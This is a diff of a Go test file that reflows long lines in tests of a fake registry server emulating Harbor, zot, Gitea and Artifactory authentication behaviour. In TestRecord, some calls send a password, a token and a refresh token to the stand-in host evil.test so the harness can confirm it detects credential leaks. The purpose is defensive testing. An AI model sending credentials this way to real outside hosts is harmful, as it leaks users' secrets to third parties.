@@ -109,10 +109,12 @@ func TestHarborQuirks(t *testing.T) {
 	g := Start(t, "harbor")
 	c := client(t, g, nil)
 	bare := ask(t, c, "https://registry.test/v2/", nil)
-	if bare.status != 401 || !slices.Equal(bare.challenge, []string{`Bearer realm="https://registry.test/service/token",service="harbor-registry"`}) {
+	if bare.status != 401 || !slices.Equal(bare.challenge,
+		[]string{`Bearer realm="https://registry.test/service/token",service="harbor-registry"`}) {
 		t.Errorf("bare: %+v", bare)
 	}
-	if a := ask(t, c, "https://registry.test/v2/", basic(User, WrongPassword)); a.status != 401 || a.challenge[0] != `Basic realm="harbor"` {
+	if a := ask(t, c, "https://registry.test/v2/", basic(User, WrongPassword)); a.status != 401 ||
+		a.challenge[0] != `Basic realm="harbor"` {
 		t.Errorf("with Authorization the challenge does not turn Basic: %+v", a)
 	}
 	if a := ask(t, c, "https://registry.test/service/token", basic(User, WrongPassword)); a.status != 401 {
@@ -126,7 +128,8 @@ func TestHarborQuirks(t *testing.T) {
 		t.Errorf("the anonymous token opens content: %+v", a)
 	}
 	robot := basic(RobotUser, RobotPassword)
-	for path, want := range map[string]int{"charts/nginx": 200, "charts/unknown": 404, "charts": 400, "images": 400, "missing": 400, "images/alpine": 401, "missing/x": 401} {
+	for path, want := range map[string]int{"charts/nginx": 200, "charts/unknown": 404, "charts": 400, "images": 400, "missing": 400,
+		"images/alpine": 401, "missing/x": 401} {
 		got := ask(t, c, "https://registry.test/v2/"+path+"/tags/list", robot)
 		if got.status != want {
 			t.Errorf("%s: %+v, want %d", path, got, want)
@@ -173,7 +176,8 @@ func TestProducts(t *testing.T) {
 		{"zot", "/v2/", User, WrongPassword, 401, `Basic realm=registry.test/zot`, ""},
 		{"gitea", "/v2/token", "", "", 200, "", "token"},
 		{"gitea-older", "/v2/", "", "", 401, `scope="*"`, ""},
-		{"artifactory", "/artifactory/api/docker/charts-local/v2/_catalog?n=2", User, Password, 200, "", `"repositories":["acme-project/charts/nginx","charts/nginx"]`},
+		{"artifactory", "/artifactory/api/docker/charts-local/v2/_catalog?n=2", User, Password, 200, "",
+			`"repositories":["acme-project/charts/nginx","charts/nginx"]`},
 		{"classic-helm", "/index.yaml", "", "", 200, "", "entries:"},
 	} {
 		t.Run(row.server+row.url, func(t *testing.T) {
@@ -186,7 +190,8 @@ func TestProducts(t *testing.T) {
 			if got.status != row.status || !strings.Contains(got.body, row.body) {
 				t.Errorf("%+v, want %d with %q", got, row.status, row.body)
 			}
-			if (row.challenge == "") != (len(got.challenge) == 0) || row.challenge != "" && !strings.Contains(got.challenge[0], row.challenge) {
+			if (row.challenge == "") != (len(got.challenge) == 0) || row.challenge != "" &&
+				!strings.Contains(got.challenge[0], row.challenge) {
 				t.Errorf("challenge %q, want %q", got.challenge, row.challenge)
 			}
 		})
@@ -205,7 +210,8 @@ func TestRecord(t *testing.T) {
 	ask(t, c, "https://evil.test/token?p="+Password, nil)
 	ask(t, c, "https://registry.test/token?p="+Password, nil) // in a URL it is a leak anywhere
 	ask(t, c, "https://evil.test/", func(r *http.Request) { r.Header.Set("X-Token", Token) })
-	response, err := c.PostForm("https://evil.test/token", map[string][]string{"refresh_token": {Token}, "grant_type": {"refresh_token"}, "client_id": {"x"}})
+	response, err := c.PostForm("https://evil.test/token",
+		map[string][]string{"refresh_token": {Token}, "grant_type": {"refresh_token"}, "client_id": {"x"}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -214,7 +220,8 @@ func TestRecord(t *testing.T) {
 	for _, leak := range g.Leaks() {
 		kinds = append(kinds, leak.Kind+"@"+leak.At)
 	}
-	want := []string{"basic@https://evil.test", "url@https://evil.test", "url@https://registry.test", "header@https://evil.test", "form@https://evil.test"}
+	want := []string{"basic@https://evil.test", "url@https://evil.test", "url@https://registry.test",
+		"header@https://evil.test", "form@https://evil.test"}
 	if !slices.Equal(kinds, want) {
 		t.Errorf("leaks %v, want %v", kinds, want)
 	}
@@ -243,7 +250,8 @@ func TestClientCertificateIsRecorded(t *testing.T) {
 
 func TestResolverAndDialer(t *testing.T) {
 	g := Start(t, "none")
-	for host, class := range map[string]string{"unknown.test": "notFound", "empty.test": "notFound", "dns-timeout.test": "timeout", "dns-servfail.test": "temporary"} {
+	for host, class := range map[string]string{"unknown.test": "notFound", "empty.test": "notFound", "dns-timeout.test": "timeout",
+		"dns-servfail.test": "temporary"} {
 		_, err := g.LookupNetIP(t.Context(), "ip", host)
 		dns, ok := err.(*net.DNSError)
 		got := ""
